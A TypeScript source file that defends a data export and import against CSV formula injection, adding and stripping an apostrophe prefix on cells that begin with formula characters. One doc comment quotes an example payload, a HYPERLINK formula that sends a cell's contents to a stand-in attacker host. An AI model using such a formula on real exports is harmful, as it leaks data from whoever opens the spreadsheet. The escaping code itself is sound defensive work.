/**
 * CSV injection (OWASP "CSV Injection"): Excel and LibreOffice run a cell that begins with one
 * of these characters as a formula, so `=HYPERLINK("http://evil.example/?x="&A1)` in a part
 * name would become a live link on the administrator's machine. The full-width forms are
 * included because some spreadsheet locales turn them into their ASCII twins (csv-stringify's
 * `escape_formulas` uses the same list).
 */
const FORMULA_START = '=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20';

/**
 * The one prefix export adds and import removes. A spreadsheet shows a cell starting with an
 * apostrophe as plain text and does not display the apostrophe.
 */
const TEXT_PREFIX = "'";

/** Apostrophes, then a formula character: the values that need (or already carry) the prefix. */
function startsLikeFormula(value: string): boolean {
  let index = 0;
  while (value[index] === TEXT_PREFIX) index += 1;
  const first = value[index];
  return first !== undefined && FORMULA_START.includes(first);
}

/**
 * A cell for export: a value that begins like a formula gets one leading apostrophe. So does
 * a value that already begins with apostrophes followed by a formula character (`'=x`), so
 * that `unescapeFormula` can always remove exactly one and every value round-trips.
 *
 * Prices and stock are written as non-negative numbers and never begin with `-`; a text that
 * does (a code `-A1`, a description starting with a dash) is escaped like any other text.
 */
export function escapeFormula(value: string): string {
  return startsLikeFormula(value) ? TEXT_PREFIX + value : value;
}

/**
 * A cell read from an import: removes the apostrophe `escapeFormula` added, and only that one
 * (a value like `'abc`, typed by hand, keeps its apostrophe).
 */
export function unescapeFormula(value: string): string {
  return value.startsWith(TEXT_PREFIX) && startsLikeFormula(value.slice(1))
    ? value.slice(1)
    : value;
}
